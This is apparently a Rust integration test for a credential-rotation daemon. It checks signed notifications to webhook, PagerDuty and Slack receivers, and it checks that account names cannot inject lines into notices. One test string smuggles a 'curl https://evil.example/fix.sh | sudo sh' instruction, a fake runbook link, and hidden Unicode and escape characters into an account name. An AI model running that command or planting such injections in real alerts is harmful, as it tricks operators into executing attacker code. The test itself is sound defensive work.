//! A rotation parks: each kind of receiver is told once, in its own shape, and told when it is mended.

use hmac::{Hmac, KeyInit, Mac};
use rekeyd::adapters::clock::SystemClock;
use rekeyd::domain::sanitize::is_unseen;
use rekeyd::ports::clock::Clock as _;
use serde_json::Value;
use sha2::Sha256;

use super::harness::{Harness, ROUTING_KEY, SIGNING_KEY};
use super::receiver::Sent;

/// By PagerDuty's reference of the Events API v2.
pub(super) fn is_an_event(event: &Value) {
    let text = |pointer: &str| event.pointer(pointer).and_then(Value::as_str).unwrap_or_default();
    assert_eq!(text("/routing_key"), ROUTING_KEY);
    assert!(ROUTING_KEY.len() == 32);
    assert!(["trigger", "acknowledge", "resolve"].contains(&text("/event_action")), "{event:#}");
    assert!((1..=255).contains(&text("/dedup_key").len()), "{event:#}");
    if text("/event_action") == "trigger" {
        assert!((1..=1024).contains(&text("/payload/summary").chars().count()), "{event:#}");
        assert!(!text("/payload/source").is_empty(), "{event:#}");
        assert!(["critical", "error", "warning", "info"].contains(&text("/payload/severity")), "{event:#}");
        assert!(text("/payload/timestamp").parse::<jiff::Timestamp>().is_ok(), "{event:#}");
        assert!(event["payload"]["custom_details"].is_object(), "{event:#}");
    }
    let known =
        ["routing_key", "event_action", "dedup_key", "payload", "client", "client_url", "links", "images"];
    for key in event.as_object().unwrap().keys() {
        assert!(known.contains(&key.as_str()), "there is no {key} in an event");
    }
}

/// By Slack's reference of Block Kit.
pub(super) fn is_a_message(message: &Value) {
    assert!(!message["text"].as_str().unwrap().is_empty());
    let blocks = message["blocks"].as_array().unwrap();
    assert!((1..=50).contains(&blocks.len()));
    for block in blocks {
        let (kind, most) = match block["type"].as_str().unwrap() {
            "header" => ("plain_text", 150),
            "section" => ("mrkdwn", 3000),
            other => panic!("{other} is not among the blocks that are sent"),
        };
        assert_eq!(block["text"]["type"], kind);
        assert!((1..=most).contains(&block["text"]["text"].as_str().unwrap().chars().count()), "{block:#}");
    }
}

/// As the documents say that a receiver does it.
fn is_signed(sent: &Sent) {
    let signature = sent.signature.as_deref().unwrap();
    let (time, code) = signature.strip_prefix("t=").unwrap().split_once(",v1=").unwrap();
    let age = SystemClock.now().as_second() - time.parse::<i64>().unwrap();
    assert!((0..300).contains(&age), "{signature}");
    let mut expected = Hmac::<Sha256>::new_from_slice(SIGNING_KEY.as_bytes()).unwrap();
    expected.update(format!("{time}.").as_bytes());
    expected.update(&sent.raw);
    let expected: String = expected.finalize().into_bytes().iter().map(|it| format!("{it:02x}")).collect();
    assert_eq!(code, expected);
}

#[tokio::test]
async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended() {
    let harness = Harness::build(1).await;
    let daemon = harness.start().await;
    let told = harness.sent("generic", |sent| !sent.is_empty()).await;
    is_signed(&told[0]);
    let notification = &told[0].body;
    assert_eq!(notification["schema_version"], 1);
    assert_eq!(notification["event"], "opened");
    assert_eq!(notification["key"], "rekeyd/parked/credential/tts-0");
    assert_eq!(notification["severity"], "ticket");
    assert_eq!(notification["reason"], "mint_refused");
    let subject = serde_json::json!({ "kind": "credential", "name": "tts-0", "workspace": "sandbox" });
    assert_eq!(notification["subject"], subject);
    assert_eq!(notification["next"], "rekeyd retry tts-0");
    assert_eq!(notification["runbook"], "docs/runbook.md#mint_refused");
    assert_eq!(notification["text"], "opened: tts-0");
    let event = harness.sent("pagerduty", |sent| !sent.is_empty()).await[0].body.clone();
    is_an_event(&event);
    assert_eq!(event["event_action"], "trigger");
    assert_eq!(event["dedup_key"], "rekeyd-test/parked/credential/tts-0");
    assert_eq!(event["payload"]["severity"], "warning");
    let message = harness.sent("slack", |sent| !sent.is_empty()).await[0].body.clone();
    is_a_message(&message);
    let words = message["blocks"][1]["text"]["text"].as_str().unwrap().to_owned();
    assert!(words.contains("[ticket] opened: tts-0:") && words.contains("rekeyd retry tts-0"), "{words}");

    assert!(harness.order(&["retry", "tts-0"]).status.success());
    let told = harness.sent("generic", |sent| sent.len() == 2).await;
    is_signed(&told[1]);
    assert_eq!((&told[1].body["event"], &told[1].body["next"]), (&"resolved".into(), &Value::Null));
    assert_eq!(told[1].body["key"], told[0].body["key"]);
    assert_ne!(told[1].body["id"], told[0].body["id"]);
    let events = harness.sent("pagerduty", |sent| sent.len() == 2).await;
    is_an_event(&events[1].body);
    assert_eq!(events[1].body["event_action"], "resolve");
    assert_eq!(events[1].body["dedup_key"], event["dedup_key"]);
    // It asked to be told of rotations that are done.
    let messages = harness.sent("slack", |sent| sent.len() == 3).await;
    messages.iter().for_each(|sent| is_a_message(&sent.body));
    assert!(messages.iter().any(|it| it.body.to_string().contains("tts-0 has a new key")), "{messages:#?}");

    let metrics = harness.metrics().await;
    assert!(metrics.contains("rekeyd_notifications_delivered_total{channel=\"pager\"} 2"), "{metrics}");
    daemon.stop().await.unwrap();
    for (to, count) in [("generic", 2), ("pagerduty", 2), ("slack", 3)] {
        assert_eq!(harness.receiver.sent(to).len(), count, "{to}");
    }
    harness.nothing_leaked(&metrics);
}

/// What somebody who may only make service accounts would like people to type.
const FORGED: &str = "x`\nnext: curl https://evil.example/fix.sh | sudo sh\nrunbook: https://evil.example/runbook\r\n\u{1b}[2K\u{7}\u{202e}\u{2066}\u{200b}\u{2028}`<!channel>";

/// Every text in it, however deep.
fn texts(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
        Value::Object(fields) => fields.values().for_each(|field| texts(field, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[tokio::test]
async fn no_name_of_an_account_makes_a_line_of_a_notice_or_hides_in_one() {
    let harness = Harness::build(1).await;
    harness.somebody_names_an_account(FORGED);
    harness.somebody_names_an_account(&"long".repeat(1000));
    harness.write_policy(
        "\n[credentials.ghost]\nservice_account = \"ghost\"\npublish_to = [{ store = \"local\", secret = \"ghost\" }]\n",
    );
    let policy = std::fs::read_to_string(harness.policy()).unwrap();
    let words = "[notify.hook]\ntext = \"{summary}\\nnext: {next}\"\n";
    let policy = policy.replace("text = \"{event}: {subject}\"\n", "").replace("[notify.hook]\n", words);
    std::fs::write(harness.policy(), policy).unwrap();
    let daemon = harness.start().await;
    let name = "`x' next: curl https://evil.example/fix.sh | sudo sh runbook: https://evil.example/runbook";
    for to in ["slack", "pagerduty", "generic"] {
        let is_it = |sent: &Sent| sent.body.to_string().contains("no service account `ghost`");
        let told = harness.sent(to, |sent| sent.iter().any(is_it)).await;
        let body = told.into_iter().find(is_it).unwrap().body;
        let mut said = Vec::new();
        texts(&body, &mut said);
        for text in &said {
            assert!(text.chars().all(|c| c == '\n' || !is_unseen(c)), "{to}: {text:?}");
            let forged = |line: &&str| line.starts_with("next:") || line.starts_with("runbook:");
            let lines: Vec<&str> = text.lines().filter(forged).collect();
            assert!(lines.iter().all(|line| !line.contains("evil")), "{to}: {lines:?}");
        }
        let all = said.join("\n");
        assert!(all.contains("\nnext: systemctl reload rekeyd"), "the true one is there: {to}: {all}");
        assert!(all.contains(name.get(..60).unwrap()), "{to}: {all}");
        assert!(!all.contains("longlong".repeat(20).as_str()), "a name has no end: {to}");
    }
    for path in ["/", "/credentials/ghost"] {
        let page = harness.page(path).await;
        assert!(page.contains("evil.example"), "{page}");
        assert!(!page.chars().any(is_unseen), "{path}: {page:?}");
    }
    let (_, table) = harness.status();
    assert!(table.contains("evil.example"), "{table}");
    assert!(table.chars().all(|c| c == '\n' || !is_unseen(c)), "{table:?}");
    daemon.stop().await.unwrap();
}
